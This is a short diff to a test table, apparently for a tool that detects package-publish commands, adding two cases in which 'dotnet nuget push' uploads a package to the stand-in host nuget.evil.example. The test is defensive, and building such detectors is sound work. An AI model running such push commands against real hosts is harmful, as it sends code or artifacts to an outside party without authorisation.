@@ -130,6 +130,8 @@ describe('push-tool table', () => {
         'nuget.evil.example',
         'x.nupkg',
       ],
+      ['/usr/bin/dotnet', 'nuget push x.nupkg --source:https://nuget.evil.example/v3', 'nuget.evil.example', 'x.nupkg'],
+      ['/usr/bin/dotnet', 'nuget push x.nupkg -s:https://nuget.evil.example/v3', 'nuget.evil.example', 'x.nupkg'],
       // A source that merely looks relative may be a name in NuGet.config: a push, the first connect decides.
       ['/usr/bin/dotnet', 'nuget push x.nupkg -s feeds/corp', null, 'x.nupkg'],
       ['/usr/local/bin/cargo', 'publish --index file:///srv/index', null, null],
